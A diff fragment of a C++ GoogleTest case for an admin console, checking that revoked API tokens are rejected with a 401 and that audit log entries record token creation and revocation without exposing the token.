+    EXPECT_FALSE(store_->apiTokenWithHash(console::apiTokenHash("x-" + prefix_))) << "nothing made by a refusal";
+
+    EXPECT_EQ(console_(request("POST", "/tokens/revoke", admin, form + "&name=" + name)).status, 303);
+    const Response after = console_(apiRequest("/api/v1/machines", "Bearer " + token));
+    EXPECT_EQ(after.status, 401);
+    EXPECT_EQ(errorCode(after), "token_revoked");
+    const auto added = auditOf(user_, std::string(storage::audit::kTokenAdded));
+    ASSERT_EQ(added.size(), 1u) << "refused ones are not recorded";
+    EXPECT_EQ(added[0].target, "token " + name);
+    EXPECT_EQ(added[0].detail.find(token), std::string::npos);
+    EXPECT_EQ(auditOf(user_, std::string(storage::audit::kTokenRevoked)).size(), 1u);
 }
 
 INSTANTIATE_TEST_SUITE_P(Engines, ConsoleTest, ::testing::Values("memory", "sqlite", "postgresql"),
